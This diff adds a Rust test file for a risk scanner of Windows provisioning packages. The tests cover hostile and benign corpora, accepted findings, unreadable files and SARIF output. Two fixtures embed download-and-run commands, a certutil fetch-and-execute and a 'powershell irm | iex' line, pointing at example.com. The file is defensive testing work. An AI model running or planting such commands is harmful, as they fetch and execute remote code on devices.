@@ -1,0 +1,173 @@
+//! `inspect --risk` on packages made to attack, on packages that only look so, and on real ones.
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use ppkgc::risk::class_named;
+use serde_json::Value;
+use tempfile::TempDir;
+
+use crate::json_documents::matches;
+use crate::support::{JUDGES_REQUIRED, corpus, packages, ppkgc, unavailable};
+
+/// At least so many of a hundred findings that the corpus expects.
+const LEAST_OF_HUNDRED: usize = 95;
+/// Packages that are not read, so that nothing is said about their content: solid resources need the decoder of LZMS.
+const UNREAD: [&str; 1] = ["hide-solid"];
+
+/// The packages, made by the script of the corpus.
+fn made() -> TempDir {
+    let out = TempDir::new().unwrap();
+    let script = corpus().join("risk/make_corpus.py");
+    let made = Command::new("python3").arg(&script).arg(out.path()).output();
+    match made {
+        Ok(made) if made.status.success() => out,
+        Ok(made) if !String::from_utf8_lossy(&made.stderr).contains("wimlib-imagex") => {
+            panic!("the script fails: {}", String::from_utf8_lossy(&made.stderr))
+        }
+        Ok(_) => unavailable("wimlib-imagex", JUDGES_REQUIRED),
+        Err(_) => unavailable("python3 for the corpus", JUDGES_REQUIRED),
+    }
+}
+
+fn report(package: &Path, more: &[&str]) -> (Value, i32) {
+    let mut command = ppkgc(Path::new("."), ["inspect", "--risk", "--format", "json"]);
+    let output = command.arg(package).args(more).output().unwrap();
+    let document = serde_json::from_slice(&output.stdout).unwrap();
+    matches(&document, "risk");
+    (document, output.status.code().unwrap())
+}
+
+fn found(report: &Value) -> BTreeSet<[String; 3]> {
+    let text = |finding: &Value, key: &str| finding[key].as_str().unwrap().to_lowercase();
+    let findings = report["findings"].as_array().unwrap().iter();
+    findings.map(|finding| ["class", "severity", "subject"].map(|key| text(finding, key))).collect()
+}
+
+#[test]
+fn the_corpus_is_judged_as_expected() {
+    let out = made();
+    let (mut expected_count, mut missing, mut wrong) = (0, Vec::new(), Vec::new());
+    for kind in ["hostile", "benign"] {
+        for path in sorted(&out.path().join(kind)) {
+            let name = path.file_name().unwrap().to_str().unwrap();
+            let Some(stem) = name.strip_suffix(".expected.json") else { continue };
+            let expected: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+            let package = path.with_file_name(format!("{stem}.ppkg"));
+            let (report, code) = report(&package, &[]);
+            let (own, theirs) = (found(&report), found(&expected));
+            expected_count += theirs.len();
+            missing.extend(theirs.difference(&own).map(|finding| format!("{stem}: {finding:?}")));
+            if UNREAD.contains(&stem) {
+                assert_eq!((&report["complete"], code), (&Value::Bool(false), 2), "{stem}");
+                continue;
+            }
+            let never = expected["never"].as_array().unwrap();
+            wrong.extend(
+                own.iter().filter(|[class, ..]| never.iter().any(|no| no == class)).map(|f| format!("{stem}: {f:?}")),
+            );
+            let (verdict, wanted) = (report["verdict"].as_str().unwrap(), expected["verdict"].as_str().unwrap());
+            let is_right = if kind == "hostile" || wanted == "high" { verdict == wanted } else { verdict != "high" };
+            if !is_right {
+                wrong.push(format!("{stem}: {verdict} in place of {wanted}"));
+            }
+            assert_eq!(code, i32::from(verdict == "high"), "{stem}");
+            for allow in expected["allow_only"].as_array().unwrap() {
+                let patterns = allow["patterns"].as_array().unwrap().iter().map(|pattern| pattern.as_str().unwrap());
+                let arguments: Vec<&str> = ["--allow-only"].into_iter().chain(patterns).collect();
+                assert_eq!(i64::from(self::report(&package, &arguments).1), allow["exit"], "{stem} {arguments:?}");
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    let found = expected_count - missing.len();
+    assert!(found * 100 >= expected_count * LEAST_OF_HUNDRED, "{found} of {expected_count}: {missing:#?}");
+}
+
+#[test]
+fn real_packages_are_not_high() {
+    let corpus = corpus();
+    for package in packages(&corpus).into_iter().chain(sorted(&corpus.join("packages"))) {
+        let name = package.display();
+        let (report, code) = report(&package, &[]);
+        assert_ne!(report["verdict"], "high", "{name}: {:#?}", report["findings"]);
+        assert_eq!((&report["complete"], code), (&Value::Bool(true), 0), "{name}");
+    }
+}
+
+#[test]
+fn accepted_findings_stay_in_the_report() {
+    let folder = TempDir::new().unwrap();
+    let package = spec(&folder, "certutil -urlcache -f http://example.com/a.exe a.exe & a.exe");
+    let (before, code) = report(&package, &[]);
+    assert_eq!((before["verdict"].as_str(), code), (Some("high"), 1), "{before:#}");
+    let subject = "ProvisioningCommands/DeviceContext/$(__PackageID)/Default/CommandLine";
+    let (after, code) = report(&package, &["--accept", &format!("download-and-run={subject}")]);
+    assert_eq!((after["verdict"].as_str(), code), (Some("medium"), 0));
+    let accepted = after["findings"].as_array().unwrap().iter().filter(|finding| finding["accepted"] == true);
+    assert_eq!(accepted.map(|finding| finding["class"].as_str().unwrap()).collect::<Vec<_>>(), ["download-and-run"]);
+    assert_eq!(report(&package, &["--fail-on", "never"]).1, 0);
+    assert_eq!(report(&package, &["--allow-only", "Personalization/**"]).1, 3);
+    assert_eq!(report(&package, &["--allow-only", "Personalization/**", "ProvisioningCommands/**"]).1, 1);
+}
+
+#[test]
+fn a_file_that_cannot_be_read_is_not_judged() {
+    let folder = TempDir::new().unwrap();
+    let package = folder.path().join("x.ppkg");
+    for bytes in [b"".as_slice(), b"MSWIM\0\0\0", &[0xff; 4096]] {
+        fs::write(&package, bytes).unwrap();
+        let (report, code) = report(&package, &[]);
+        assert_eq!((&report["complete"], code), (&Value::Bool(false), 2));
+    }
+}
+
+#[test]
+fn bytes_that_differ_never_stop_the_program() {
+    let bytes = fs::read(&packages(&corpus())[0]).unwrap();
+    let folder = TempDir::new().unwrap();
+    let package = folder.path().join("x.ppkg");
+    let step = bytes.len() / 40 + 1;
+    for at in (0..bytes.len()).step_by(step) {
+        let mut bytes = bytes.clone();
+        bytes[at] ^= 0x41;
+        fs::write(&package, &bytes).unwrap();
+        assert!(matches!(report(&package, &[]).1, 0..=3), "byte {at}");
+    }
+}
+
+#[test]
+fn sarif_names_rules_and_techniques() {
+    let folder = TempDir::new().unwrap();
+    let package = spec(&folder, "powershell irm https://example.com/i | iex");
+    let mut command = ppkgc(folder.path(), ["inspect", "--risk", "--format", "sarif"]);
+    let log: Value = serde_json::from_slice(&command.arg(&package).output().unwrap().stdout).unwrap();
+    matches(&log, "risk-sarif");
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    let worst = &results[0];
+    assert_eq!((worst["ruleId"].as_str(), worst["level"].as_str()), (Some("risk/download-and-run"), Some("error")));
+    assert_eq!(worst["taxa"][0]["id"], "T1105");
+    for result in results {
+        assert!(class_named(result["ruleId"].as_str().unwrap().strip_prefix("risk/").unwrap()).is_some());
+    }
+}
+
+/// A package of our own that runs this command.
+fn spec(folder: &TempDir, command: &str) -> PathBuf {
+    let text = format!(
+        "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n[settings]\n\
+         \"ProvisioningCommands/DeviceContext/CommandLine\" = {command:?}\n"
+    );
+    fs::write(folder.path().join("spec.toml"), text).unwrap();
+    let output = ppkgc(folder.path(), ["build", "spec.toml", "-o", "out"]).output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    folder.path().join("out/Job.ppkg")
+}
+
+fn sorted(folder: &Path) -> Vec<PathBuf> {
+    let mut paths: Vec<PathBuf> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
+    paths.sort();
+    paths
+}
